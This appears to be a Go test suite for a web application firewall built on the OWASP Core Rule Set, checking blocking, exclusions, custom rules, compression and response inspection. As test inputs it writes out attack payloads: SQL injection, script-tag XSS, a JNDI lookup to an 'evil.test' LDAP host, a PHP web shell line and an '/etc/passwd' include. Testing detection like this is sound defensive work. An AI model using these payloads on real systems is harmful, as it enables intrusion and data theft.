package crs_test

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"net/http"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/andybalholm/brotli"
	"github.com/klauspost/compress/zstd"

	"gatehouse/config"
	"gatehouse/exchange"
	"gatehouse/waf/crs"
)

const attack = "1' OR '1'='1' UNION SELECT password FROM users-- -"

func form(body string) http.Header {
	return http.Header{"Content-Type": {"application/x-www-form-urlencoded"}}
}

func typed(t string) http.Header { return http.Header{"Content-Type": {t}} }

func TestBlocksAndPasses(t *testing.T) {
	set := compile(t, "{paranoia: 1}")
	for _, test := range []struct {
		name, method, target string
		header               http.Header
		body                 string
		blocked              bool
		rule                 int // among those that matched; 0 for none
	}{
		{"plain", "GET", "/orders/42?page=2&sort=name", nil, "", false, 0},
		{"query", "GET", "/orders?q=1%27%20UNION%20SELECT%20password%20FROM%20users--", nil, "", true, 942100},
		{"path", "GET", "/files/%3Cscript%3Ealert(1)%3C/script%3E?x=%3Cscript%3Ealert(1)%3C/script%3E", nil, "", true, 941100},
		{"header", "GET", "/", http.Header{"User-Agent": {"${jndi:ldap://evil.test/a}"}}, "", true, 944150},
		{"cookie", "GET", "/", http.Header{"Cookie": {"a=b; q=<script>alert(1)</script>"}}, "", true, 941100},
		{"form", "POST", "/", form(""), "comment=" + strings.ReplaceAll(attack, " ", "+"), true, 942100},
		{"json", "POST", "/", typed("application/json"), `{"a": {"b": [1, "` + attack + `"]}}`, true, 942100},
		{"json escaped", "POST", "/", typed("application/json"), `{"a": "\u003cscript\u003ealert(1)\u003c/script\u003e"}`, true, 941100},
		{"json of a kind", "POST", "/", typed("application/vnd.shop+json"), `{"a": "<script>alert(1)</script>"}`, true, 941100},
		{"xml", "POST", "/", typed("application/xml"), `<a><b>` + strings.ReplaceAll(attack, "'", "&apos;") + `</b></a>`, true, 942100},
		{"xml attribute", "POST", "/", typed("text/xml"), `<a b="<script>alert(1)</script>"/>`, true, 0},
		{"multipart", "POST", "/", typed("multipart/form-data; boundary=xyz"), "--xyz\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + attack + "\r\n--xyz--\r\n", true, 942100},
		{"file", "POST", "/", typed("multipart/form-data; boundary=xyz"), "--xyz\r\nContent-Disposition: form-data; name=\"q\"; filename=\"a.php\"\r\n\r\nx\r\n--xyz--\r\n", true, 933110},
		{"good multipart", "POST", "/", typed("multipart/form-data; boundary=xyz"), "--xyz\r\nContent-Disposition: form-data; name=\"q\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n--xyz--\r\n", false, 0},
		{"good json", "POST", "/", typed("application/json"), `{"name": "Alice", "items": [{"sku": "A-1", "count": 2}], "note": null, "ok": true}`, false, 0},
		{"good xml", "POST", "/", typed("application/xml; charset=utf-8"), `<?xml version="1.0" encoding="UTF-8"?><order id="7"><item>tea</item></order>`, false, 0},
		{"empty body", "POST", "/", typed("application/json"), "", false, 0},
		{"put", "PUT", "/orders/7", typed("application/json"), `{"count": 3}`, false, 0},
		{"waiting for 100 Continue", "POST", "/", http.Header{"Content-Type": {"application/json"}, "Expect": {"100-continue"}}, `{"a": 1}`, false, 0},
		{"waiting for something else", "POST", "/", http.Header{"Content-Type": {"application/json"}, "Expect": {"200-maybe"}}, `{"a": 1}`, true, 920450},
		{"trace", "TRACE", "/", nil, "", true, 911100},
		{"unknown type", "POST", "/", typed("application/x-thing"), "abc", true, 920420},
	} {
		f := ask(t, set, test.method, test.target, test.header, test.body)
		if (f.Refusal.Status == 403) != test.blocked || f.Blocked != test.blocked {
			t.Errorf("%s: %d, blocked %v by %d, %v: %s", test.name, f.Refusal.Status, f.Blocked, f.By, ids(f), f.Detail())
		}
		if test.rule != 0 && !has(f, test.rule) {
			t.Errorf("%s: %d is not among %v", test.name, test.rule, ids(f))
		}
	}
}

func TestCountsOnly(t *testing.T) {
	set := compile(t, "{mode: count}")
	f := ask(t, set, "GET", "/?q=1%27%20UNION%20SELECT%20password%20FROM%20users--", nil, "")
	if f.Refusal.Status != 0 || !f.Blocked || f.Reason != "rules" || f.Score < 5 {
		t.Errorf("%d, %v, %q, score %d", f.Refusal.Status, f.Blocked, f.Reason, f.Score)
	}
	labels := f.Labels()
	for _, l := range []string{"gatehouse:crs:attack-sqli", "gatehouse:crs:942100"} {
		if !slices.Contains(labels, l) {
			t.Errorf("%s is not among %v", l, labels)
		}
	}
	if d := f.Detail(); !strings.Contains(d, "942100 SQL Injection Attack") || !strings.Contains(d, "ARGS:q") {
		t.Errorf("%s", d)
	}
}

// Of a chain whose first rule matches everywhere only what it is about is told.
func TestPlacesOfChains(t *testing.T) {
	f := ask(t, compile(t, "{}"), "GET", "/", http.Header{"Lock-Token": {"x"}, "X-A": {"b"}, "X-C": {"d"}}, "")
	for _, m := range f.Matches {
		if m.ID == 920450 && (len(m.Places) != 1 || m.Places[0].Target != "REQUEST_HEADERS_NAMES:Lock-Token") {
			t.Errorf("%+v", m)
		}
	}
	if !has(f, 920450) {
		t.Errorf("%v", ids(f))
	}
}

func TestThresholdAndParanoia(t *testing.T) {
	const target = "/?q=a%20union%20b%20--%20%23"
	low := ask(t, compile(t, "{paranoia: 1}"), "GET", target, nil, "")
	high := ask(t, compile(t, "{paranoia: 4, threshold: {inbound: 1000}}"), "GET", target, nil, "")
	seen := ask(t, compile(t, "{paranoia: 1, detect: 4}"), "GET", target, nil, "")
	if low.Blocked || high.Blocked || seen.Blocked {
		t.Errorf("blocked: %v %v %v", low.Blocked, high.Blocked, seen.Blocked)
	}
	if low.Score != 0 || high.Score < 5 || seen.Score != high.Score {
		t.Errorf("scores %d, %d, %d", low.Score, high.Score, seen.Score)
	}
}

func TestExclusions(t *testing.T) {
	for _, test := range []struct {
		name, exclusion, target string
		blocked                 bool
	}{
		{"none", "{rule: 911100}", "/blog/7?comment=<script>alert(1)</script>", true},
		{"tag", "{tag: attack-xss}", "/blog/7?comment=<script>alert(1)</script>", false},
		{"target", "{tag: attack-xss, target: 'ARGS:comment'}", "/blog/7?comment=<script>alert(1)</script>", false},
		{"target in capitals", "{tag: attack-xss, target: 'args:Comment'}", "/blog/7?comment=<script>alert(1)</script>", false},
		{"another target", "{tag: attack-xss, target: 'ARGS:comment'}", "/blog/7?other=<script>alert(1)</script>", true},
		{"pattern", "{tag: attack-xss, target: 'ARGS:/^com/'}", "/blog/7?comment=<script>alert(1)</script>", false},
		{"another pattern", "{tag: attack-xss, target: 'ARGS:/^com/'}", "/blog/7?x.com=<script>alert(1)</script>", true},
		{"path", "{rule: 941000-941999, path: '/blog/{proxy*}'}", "/blog/7?comment=<script>alert(1)</script>", false},
		{"parameter", "{rule: 941000-941999, path: '/blog/{id}'}", "/blog/7?comment=<script>alert(1)</script>", false},
		{"another path", "{rule: 941000-941999, path: '/blog/{proxy+}'}", "/shop/7?comment=<script>alert(1)</script>", true},
		{"a longer path", "{rule: 941000-941999, path: '/blog/{id}'}", "/blog/7/8?comment=<script>alert(1)</script>", true},
		{"an encoded path", "{rule: 941000-941999, path: '/blog/{id}'}", "/bl%6Fg/7?comment=<script>alert(1)</script>", false},
	} {
		set := compile(t, "{exclusions: "+test.exclusion+"}")
		target := strings.NewReplacer("<", "%3C", ">", "%3E").Replace(test.target)
		if f := ask(t, set, "GET", target, nil, ""); f.Blocked != test.blocked {
			t.Errorf("%s: blocked %v, %v", test.name, f.Blocked, ids(f))
		}
	}
}

func TestOwnRules(t *testing.T) {
	c, err := load(t, "{files: own.conf, paranoia: 1}", map[string]string{"own.conf": "# ours\nSecRule ARGS:beta \"@streq yes\" \\\n  \"id:1,phase:2,deny,status:403,log,msg:'no beta',tag:'ours'\"\nSecRule ARGS:free \"@rx ^a$\" \"id:2,phase:1,pass,nolog,ctl:ruleRemoveByTag=attack-xss\"\n"})
	if err != nil {
		t.Fatal(err)
	}
	var report config.Report
	set := crs.Compile(c, crs.Limits{Body: 1024}, &exchange.Rule{}, nil, &report)
	if set == nil {
		t.Fatal(report.Problems())
	}
	if f := ask(t, set, "GET", "/?beta=yes", nil, ""); !f.Blocked || f.By != 1 || !has(f, 1) {
		t.Errorf("blocked %v by %d", f.Blocked, f.By)
	}
	if f := ask(t, set, "GET", "/?free=a&q=%3Cscript%3Ealert(1)%3C/script%3E", nil, ""); f.Blocked {
		t.Errorf("blocked by %v", ids(f))
	}
}

func TestMistakes(t *testing.T) {
	for _, test := range []struct{ text, own, want string }{
		{"{paranoia: 5}", "", "wanted 1 to 4"},
		{"{mode: off}", "", "block"},
		{"{exclusions: {target: ARGS}}", "", "either a rule or a tag"},
		{"{exclusions: {rule: 942100, tag: x}}", "", "either a rule or a tag"},
		{"{exclusions: {rule: abc}}", "", "no number of a rule"},
		{"{exclusions: {rule: 942100, target: 'ARG:x'}}", "", "no target of rules"},
		{"{exclusions: {rule: 942100, path: 'blog'}}", "", "begins with /"},
		{"{exclusions: {rule: 942100, path: '/{a+}/b'}}", "", "stand at the end"},
		{"{detect: 1, paranoia: 3}", "", "below paranoia"},
		{"{methods: [\"GET'\"]}", "", "none of methods"},
		{"{files: own.conf}", "SecRuleEngine Off\n", "no directive for a file of rules"},
		{"{files: own.conf}", "\n\nInclude /etc/passwd\n", "own.conf:3"},
		{"{files: own.conf}", "SecRule ARGS \"@inspectFile /bin/x\" \"id:1\"\n", "reaches for something"},
		{"{files: own.conf}", "SecRule ARGS \"@rx x\" \"id:1,ctl:ruleEngine=Off\"\n", "reaches for something"},
		{"{files: own.conf}", "SecAction \\\n", "does not end"},
	} {
		_, err := load(t, test.text, map[string]string{"own.conf": test.own})
		if err == nil || !strings.Contains(err.Error(), test.want) {
			t.Errorf("%s: %v", test.text, err)
		}
	}
	for _, test := range []struct{ text, own, want string }{
		{"{exclusions: {rule: 99}}", "", "no rule 99"},
		{"{exclusions: {tag: attack-sql}}", "", "attack-sqli"},
		{"{files: own.conf}", "SecRule ARGS \"@rx (\" \"id:1,phase:1,deny\"\n", "cannot be compiled"},
		{"{files: own.conf}", "SecRule ARGS \"@pmFromFile /etc/passwd\" \"id:1,phase:1,deny\"\n", "cannot be compiled"},
		{"{files: own.conf}", "SecRule ARGS \"@rx x\" \"id:942100,phase:1,deny\"\n", "942100"},
	} {
		c, err := load(t, test.text, map[string]string{"own.conf": test.own})
		if err != nil {
			t.Errorf("%s: %v", test.text, err)
			continue
		}
		var report config.Report
		set := crs.Compile(c, crs.Limits{Body: 1024}, &exchange.Rule{}, nil, &report)
		if p := report.Problems(); set != nil || len(p) != 1 || !strings.Contains(p[0].Message+p[0].Hint, test.want) {
			t.Errorf("%s: %v, %v", test.text, set != nil, p)
		}
	}
}

func TestCompiledOncePerContent(t *testing.T) {
	one := compile(t, "{paranoia: 2}")
	for _, test := range []struct {
		text string
		same bool
	}{{"{paranoia: 2, budget: 3s}", true}, {"{paranoia: 3}", false}, {"{paranoia: 2, exclusions: {rule: 942100}}", false}} {
		c, err := load(t, test.text, nil)
		if err != nil {
			t.Fatal(err)
		}
		var report config.Report
		two := crs.Compile(c, crs.Limits{Body: 1024}, &exchange.Rule{}, []*crs.Set{nil, one}, &report)
		if two == nil || one.Shares(two) != test.same {
			t.Errorf("%s: not %v", test.text, test.same)
		}
	}
}

func TestBodyBeyond(t *testing.T) {
	body := "a=" + strings.Repeat("x", 2000) + "&q=" + strings.ReplaceAll(attack, " ", "+")
	f := ask(t, compileLimited(t, "{}", crs.Limits{Body: 1000}), "POST", "/", form(""), body)
	if f.Refusal.Status != 413 || f.Reason != "body-beyond" {
		t.Errorf("%d %q", f.Refusal.Status, f.Reason)
	}
	f = ask(t, compileLimited(t, "{}", crs.Limits{Body: 1000, Beyond: true}), "POST", "/", form(""), body)
	if f.Refusal.Status != 0 || f.Unseen != "body-beyond" {
		t.Errorf("%d, unseen %q, %v", f.Refusal.Status, f.Unseen, ids(f))
	}
	f = ask(t, compileLimited(t, "{}", crs.Limits{Body: len(body)}), "POST", "/", form(""), body)
	if f.Refusal.Status != 403 || f.Unseen != "" {
		t.Errorf("%d, unseen %q", f.Refusal.Status, f.Unseen)
	}
}

func TestCompressed(t *testing.T) {
	plain := "q=" + strings.ReplaceAll(attack, " ", "+")
	bomb := "q=" + strings.Repeat("a", 1<<20)
	refuse, inflate := compile(t, "{}"), compile(t, "{compressed: inflate}")
	for _, coding := range []string{"gzip", "deflate", "br", "zstd"} {
		header := func() http.Header {
			h := form("")
			h.Set("Content-Encoding", coding)
			return h
		}
		if f := ask(t, refuse, "POST", "/", header(), compressed(t, coding, plain)); f.Refusal.Status != 415 {
			t.Errorf("%s: %d", coding, f.Refusal.Status)
		}
		if f := ask(t, inflate, "POST", "/", header(), compressed(t, coding, plain)); f.Refusal.Status != 403 || !has(f, 942100) {
			t.Errorf("%s inflated: %d %v", coding, f.Refusal.Status, ids(f))
		}
		if f := ask(t, inflate, "POST", "/", header(), compressed(t, coding, "q=hello")); f.Refusal.Status != 0 {
			t.Errorf("%s harmless: %d %v", coding, f.Refusal.Status, ids(f))
		}
		if f := ask(t, inflate, "POST", "/", header(), compressed(t, coding, bomb)); f.Refusal.Status != 413 {
			t.Errorf("%s bomb: %d", coding, f.Refusal.Status)
		}
		for _, broken := range []string{compressed(t, coding, plain) + "&x=1", compressed(t, coding, plain)[:20], plain} {
			if f := ask(t, inflate, "POST", "/", header(), broken); f.Refusal.Status != 403 || !has(f, 200002) {
				t.Errorf("%s broken: %d %v", coding, f.Refusal.Status, ids(f))
			}
		}
	}
	for _, coding := range []string{"gzip, gzip", "compress", "gzip;q=1"} {
		h := form("")
		h.Set("Content-Encoding", coding)
		if f := ask(t, inflate, "POST", "/", h, compressed(t, "gzip", plain)); f.Refusal.Status != 415 {
			t.Errorf("%s: %d", coding, f.Refusal.Status)
		}
	}
}

func compressed(t testing.TB, coding, text string) string {
	t.Helper()
	var b bytes.Buffer
	var w interface {
		Write([]byte) (int, error)
		Close() error
	}
	switch coding {
	case "gzip":
		w = gzip.NewWriter(&b)
	case "deflate":
		w = zlib.NewWriter(&b)
	case "br":
		w = brotli.NewWriter(&b)
	case "zstd":
		w, _ = zstd.NewWriter(&b)
	}
	if _, err := w.Write([]byte(text)); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// What the configured time does not suffice for is blocked, or passes; the set
// serves others all the same.
func TestBudget(t *testing.T) {
	body := "q=" + strings.Repeat("%3Cb+'a", 8000)
	for mode, status := range map[string]int{"block": 403, "pass": 0} {
		set := compile(t, "{paranoia: 4, budget: 1ms, on-error: "+mode+"}")
		for range 3 {
			f := ask(t, set, "POST", "/", form(""), body)
			if f.Reason != "budget" || f.Refusal.Status != status || f.Error == nil {
				t.Fatalf("%s: %q %d %v", mode, f.Reason, f.Refusal.Status, f.Error)
			}
		}
	}
}

// Nothing that a request holds is ever written to a file.
func TestNoFiles(t *testing.T) {
	set := compileLimited(t, "{mode: count}", crs.Limits{Body: 8 << 20})
	dir := t.TempDir()
	t.Setenv("TMPDIR", dir)
	big := strings.Repeat("0123456789abcdef", 1<<15)
	ask(t, set, "POST", "/", typed("multipart/form-data; boundary=xyz"), "--xyz\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\n"+big+"\r\n--xyz--\r\n")
	left, err := os.ReadDir(dir)
	if err != nil || len(left) > 0 {
		t.Errorf("%v, %v", left, err)
	}
}

// One set serves many requests at once, and none sees another's.
func TestConcurrent(t *testing.T) {
	set := compile(t, "{paranoia: 2, responses: true}")
	var wg sync.WaitGroup
	for i := range 8 {
		wg.Go(func() {
			for j := range 20 {
				body, want := `{"q": "hello"}`, false
				if (i+j)%2 == 0 {
					body, want = `{"q": "`+attack+`"}`, true
				}
				if f := ask(t, set, "POST", "/", typed("application/json"), body); f.Blocked != want {
					t.Errorf("blocked %v, %v", f.Blocked, ids(f))
				}
			}
		})
	}
	wg.Wait()
}

func TestResponses(t *testing.T) {
	set := compile(t, "{responses: {limit: 64KiB}}")
	for _, test := range []struct {
		name, kind, body string
		status           int
		blocked          bool
	}{
		{"fine", "text/html", "<p>hello</p>", 200, false},
		{"an error of a database", "text/html", "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version", 200, true},
		{"source text", "text/plain", "<?php echo shell_exec($_GET['cmd']);\n ?>", 200, true},
		{"not inspected", "image/png", "<?php echo shell_exec($_GET['cmd']);\n ?>", 200, false},
	} {
		f, in, x := begin(t, set, "GET", "/", nil, "")
		if in == nil {
			t.Fatalf("%s: no inspection: %v", test.name, ids(f))
		}
		h := &exchange.Head{Exchange: x, Status: test.status, Header: http.Header{"Content-Type": {test.kind}}}
		_, wanted := in.Bodies(h)
		if wanted != (test.kind != "image/png") {
			t.Errorf("%s: wanted %v", test.name, wanted)
		}
		f = in.Response(h, []byte(test.body), wanted)
		if f.Blocked != test.blocked {
			t.Errorf("%s: blocked %v, %v", test.name, f.Blocked, ids(f))
		}
		x.Finish()
	}
}
